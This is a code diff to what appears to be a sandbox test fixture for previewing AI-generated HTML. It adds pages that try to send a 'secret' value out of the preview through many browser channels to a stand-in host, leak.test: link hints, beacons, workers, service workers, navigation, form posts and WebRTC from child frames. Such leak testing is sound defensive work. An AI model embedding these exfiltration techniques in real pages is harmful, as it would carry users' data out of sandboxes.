@@ -125,9 +125,107 @@ const attempt = async (name, action) => {
 }
 
 /**
+ * The names the channel artifacts aim at: each channel its own name under LEAK_DOMAIN, which the
+ * test's browser maps to its listener (`--host-resolver-rules`), so a lookup of one is seen in the
+ * browser's network log and a connection to one at the listener.
+ */
+export const LEAK_DOMAIN = 'leak.test';
+
+/**
+ * An artifact that tries every other way out of the preview, each aimed at its own name
+ * (`<channel>.leak.test:PORT`): connection hints (`preconnect`, `dns-prefetch`, `prefetch`,
+ * `preload`, `modulepreload`, in its markup and added by script), speculation rules, EventSource,
+ * `sendBeacon`, a Worker, a SharedWorker and a service worker that would fetch out, and navigation of
+ * the window (`location =`, `window.open`, `<a target=_top>` and `_blank`, a form submitted to the
+ * top) and, on a click of `#refresh`, of its own frame by a meta refresh. Writes each attempt's outcome into `#results`; what counts is
+ * what the test's listener and the browser's network log saw.
+ */
+export function channelsArtifact(port: number): string {
+  const at = (channel: string): string => `http://${channel}.${LEAK_DOMAIN}:${port}`;
+  const hints = ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'];
+  const markupHints = hints.map((rel) => `<link rel="${rel}" href="${at(`${rel}-markup`)}/x"${rel === 'preload' ? ' as="fetch"' : ''}>`);
+  return `<!doctype html>
+<title>Channels</title>
+${markupHints.join('\n')}
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at('speculation')}/"]}],"prerender":[{"source":"list","urls":["${at('prerender')}/"]}]}</script>
+<pre id="results"></pre>
+<button id="refresh">Refresh away</button>
+<a id="top-link" href="${at('anchor-top')}/" target="_top">top</a>
+<a id="blank-link" href="${at('anchor-blank')}/" target="_blank">blank</a>
+<form id="top-form" method="post" action="${at('form-top')}/" target="_top"><input name="typed" value="secret"></form>
+<script>
+const results = {};
+const attempt = async (name, action) => {
+  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
+  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
+};
+const worker = (url) => 'fetch(' + JSON.stringify(url) + ').catch(() => {});';
+(async () => {
+  for (const rel of ${JSON.stringify(hints)}) await attempt(rel + '-script', () => { const link = document.createElement('link'); link.rel = rel; if (rel === 'preload') link.as = 'fetch'; link.href = 'http://' + rel + '-script.${LEAK_DOMAIN}:${port}/x'; document.head.append(link); return 'added'; });
+  await attempt('eventsource', () => new Promise((resolve, reject) => { const source = new EventSource('${at('eventsource')}/'); source.onopen = () => resolve(undefined); source.onerror = () => { source.close(); reject(new TypeError('eventsource')); }; }));
+  await attempt('beacon', () => (navigator.sendBeacon('${at('beacon')}/', 'typed-secret') ? 'queued' : 'refused'));
+  await attempt('worker-blob', () => { new Worker(URL.createObjectURL(new Blob([worker('${at('worker-blob')}/')], { type: 'text/javascript' }))); return 'constructed'; });
+  await attempt('worker-data', () => { new Worker('data:text/javascript,' + encodeURIComponent(worker('${at('worker-data')}/'))); return 'constructed'; });
+  await attempt('shared-worker', () => { new SharedWorker(URL.createObjectURL(new Blob([worker('${at('shared-worker')}/')], { type: 'text/javascript' }))); return 'constructed'; });
+  await attempt('service-worker', async () => { await navigator.serviceWorker.register(URL.createObjectURL(new Blob([worker('${at('service-worker')}/')], { type: 'text/javascript' }))); });
+  await attempt('window-open', () => { if (window.open('${at('window-open')}/') === null) throw new Error('no window'); });
+  await attempt('top-location', () => { window.top.location = '${at('top-location')}/'; });
+  await attempt('parent-location', () => { window.parent.location = '${at('parent-location')}/'; });
+  await attempt('anchor-top', () => { document.getElementById('top-link').click(); return 'clicked'; });
+  await attempt('anchor-blank', () => { document.getElementById('blank-link').click(); return 'clicked'; });
+  await attempt('form-top', () => { document.getElementById('top-form').submit(); return 'submitted'; });
+  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
+  document.body.dataset.done = 'yes';
+  // Last, on a click, its own frame by a meta refresh (if it went anywhere, this page would be gone).
+  document.getElementById('refresh').addEventListener('click', () => {
+    const meta = document.createElement('meta');
+    meta.httpEquiv = 'refresh';
+    meta.content = '0;url=${at('meta-refresh')}/';
+    document.head.append(meta);
+  });
+})();
+</script>`;
+}
+
+/**
+ * An artifact that makes frames inside itself, which its first script never ran in, and tries
+ * WebRTC from there (STUN and TURN at `port` on 127.0.0.77): from its own script through an
+ * `about:blank` child's window, and from a `srcdoc` child's own script. Writes `webrtc-child` and
+ * `webrtc-srcdoc` outcomes into `#results`.
+ */
+export function childFrameWebRtcArtifact(port: number): string {
+  const servers = `[{ urls: 'stun:127.0.0.77:${port}' }, { urls: 'turn:127.0.0.77:${port}?transport=udp', username: 'typed-secret', credential: 'x' }]`;
+  const gather = `async (Peer) => { if (typeof Peer !== 'function') throw new TypeError('no RTCPeerConnection'); const peer = new Peer({ iceServers: ${servers} }); peer.createDataChannel('out'); await peer.setLocalDescription(await peer.createOffer()); return 'gathering'; }`;
+  const childScript = `(${gather})(window.RTCPeerConnection).then((outcome) => parent.postMessage({ srcdoc: outcome }, '*'), (error) => parent.postMessage({ srcdoc: 'blocked: ' + error.name }, '*'));`;
+  return `<!doctype html>
+<title>Child frames</title>
+<pre id="results"></pre>
+<script>
+const results = {};
+const gather = ${gather};
+const show = () => {
+  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
+  if (Object.keys(results).length === 2) document.body.dataset.done = 'yes';
+};
+window.addEventListener('message', (event) => { if (event.data && typeof event.data.srcdoc === 'string') { results['webrtc-srcdoc'] = event.data.srcdoc; show(); } });
+(async () => {
+  try {
+    const child = document.createElement('iframe');
+    document.body.append(child);
+    results['webrtc-child'] = await gather(child.contentWindow.RTCPeerConnection);
+  } catch (error) { results['webrtc-child'] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
+  show();
+  const sourced = document.createElement('iframe');
+  sourced.srcdoc = '<script>' + ${JSON.stringify(childScript)} + '</' + 'script>';
+  document.body.append(sourced);
+})();
+</script>`;
+}
+
+/**
  * Answers with artifacts: "clock" writes a page, "red" revises it, "hostile" writes the hostile
  * artifact, "listen" one that takes focus to read typing, "call home on PORT" one that tries WebRTC and
- * connection hints at PORT, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
+ * connection hints at PORT, "every channel to PORT" the channels artifact, "child frame on PORT" WebRTC from a child frame, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
  */
 export const artifacts: Scenario = {
   name: 'artifacts',
@@ -136,6 +234,10 @@ export const artifacts: Scenario = {
   replies: [],
   whenExhausted: (request) => {
     const text = lastUserText(request);
+    const channels = /every channel to (\d+)/i.exec(text);
+    if (channels) return reply.text(`Here it is:\n\n${fence('html', channelsArtifact(Number(channels[1])))}`);
+    const child = /child frame on (\d+)/i.exec(text);
+    if (child) return reply.text(`Here it is:\n\n${fence('html', childFrameWebRtcArtifact(Number(child[1])))}`);
     const talk = /call home on (\d+)/i.exec(text);
     if (talk) return reply.text(`Here it is:\n\n${fence('html', talkingArtifact(Number(talk[1])))}`);
     if (/listen/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', KEYLOGGER_ARTIFACT)}`);
